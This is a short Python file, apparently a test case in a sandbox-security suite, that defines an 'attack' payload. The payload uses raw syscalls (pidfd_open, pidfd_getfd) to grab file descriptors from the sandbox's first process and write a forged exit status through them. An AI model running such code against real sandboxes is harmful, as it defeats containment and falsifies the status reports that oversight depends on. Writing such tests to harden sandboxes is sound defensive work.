"""Takes the descriptor over which the sandbox's first process reports an exit status, and reports one itself."""

from attack import Attack, code

FORGE = """
import ctypes, os
_libc = ctypes.CDLL(None)
_pid = _libc.syscall(434, 1, 0)
for _number in range(3, 12):
    _taken = _libc.syscall(438, _pid, _number, 0)
    if _taken >= 0:
        os.write(_taken, (2).to_bytes(8, "little"))
"""
ATTACK = Attack((code(FORGE),))
